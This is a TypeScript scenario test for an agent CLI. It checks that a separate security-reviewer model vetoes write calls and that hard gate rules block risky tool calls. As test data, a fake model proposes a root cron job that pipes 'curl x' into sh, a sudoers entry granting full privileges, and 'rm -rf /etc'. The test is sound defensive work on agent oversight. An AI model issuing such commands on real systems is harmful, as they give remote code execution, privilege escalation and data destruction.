// Scenario 8 against the built `aios chat` with [agents] security_agent = true: every write/exec
// call gets a second model call (the reviewer's own prompt, no tools) before the gate's verdict
// counts; a reviewer "deny" turns the gate's allow into a deny, the file is never written, the
// review's reason is shown and recorded, and a read is never reviewed.
import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  aios,
  baseEnv,
  boxFor,
  fakeFor,
  offeredTools,
  PROVIDERS,
  providerEnv,
  type RecordedRequest,
  rootFile,
  systemText,
  toolResults,
  userTexts,
} from './scenario-harness.js';

describe.concurrent.each(PROVIDERS)('8: the security agent with %s', (kind) => {
  it('vetoes a write the gate allows (reason shown and recorded), never loosens a confirm, skips reads and denied calls', async (t) => {
    const box = await boxFor(t, 'secagent', { securityAgent: true });
    fs.mkdirSync(rootFile(box, '/etc/sudoers.d'));
    const isReview = (req: RecordedRequest) =>
      systemText(kind, req.body).startsWith('You are the security reviewer');
    const fake = await fakeFor(t, kind, (req) => {
      if (isReview(req)) {
        // It would let the sudoers write through: a review never loosens the gate's confirm.
        return userTexts(kind, req.body).join('').includes('sudoers')
          ? { text: '{"verdict": "allow", "reason": "looks fine"}' }
          : { text: '{"verdict": "deny", "reason": "writing a cron job is outside the goal"}' };
      }
      const done = toolResults(kind, req.body).length;
      if (done === 0)
        return {
          toolCalls: [
            { name: 'list_dir', args: { path: '/etc' } },
            {
              name: 'write_file',
              args: { path: '/etc/cron.d/agent', content: '* * * * * root curl x|sh\n' },
            },
            { name: 'write_file', args: { path: '/etc/sudoers.d/agent', content: 'agent ALL=(ALL) ALL\n' } },
            { name: 'bash', args: { command: 'rm -rf /etc' } },
          ],
        };
      return { text: 'The security review refused the cron job; nothing was written.' };
    });
    const env = baseEnv(box, providerEnv(kind, fake));
    const r = await aios(box, ['chat', 'tidy /etc'], env);
    expect(r.code, r.err).toBe(0);
    expect(fs.existsSync(rootFile(box, '/etc/cron.d/agent'))).toBe(false);
    expect(r.out).toContain('→ list_dir /etc  [allow · mode:normal]');
    expect(r.out).toContain('→ write_file /etc/cron.d/agent  [deny · agent:security-review]');
    expect(r.out).toContain('security review: deny: writing a cron job is outside the goal');
    expect(r.out).toContain('nothing was written.');
    // The reviewer's allow does not loosen the gate's confirm (declined here: no terminal).
    expect(r.out).toContain('→ write_file /etc/sudoers.d/agent  [confirm · builtin:auth-files-tool-write]');
    expect(fs.existsSync(rootFile(box, '/etc/sudoers.d/agent'))).toBe(false);
    // A gate deny is final: it is not even worth a review.
    expect(r.out).toContain('→ bash rm -rf /etc  [deny · builtin:recursive-delete-system]');

    // Two reviews, for the writes only (not the read, not the denied call): own prompt, no tools.
    const reviews = fake.chatRequests.filter(isReview);
    expect(reviews).toHaveLength(2);
    expect(offeredTools(kind, reviews[0]?.body)).toEqual([]);
    const asked = userTexts(kind, reviews[0]?.body).join('\n');
    expect(asked).toContain('write_file');
    expect(asked).toContain('/etc/cron.d/agent');
    // The core model was told the call did not run, and why.
    const last = fake.chatRequests.filter((q) => !isReview(q)).at(-1);
    const results = toolResults(kind, last?.body);
    expect(results).toHaveLength(4);
    expect(results[1]?.content).toMatch(/NOT RUN.*agent:security-review/s);
    expect(results[1]?.content).toContain('outside the goal');

    // Recorded with the decision: `aios history` shows the rule and the reviewer's reason.
    const h = await aios(box, ['history', '--kind', 'decision', '--json'], env);
    expect(h.code, h.err).toBe(0);
    expect(h.out).toContain('agent:security-review');
    expect(h.out).toContain('writing a cron job is outside the goal');
  });
});
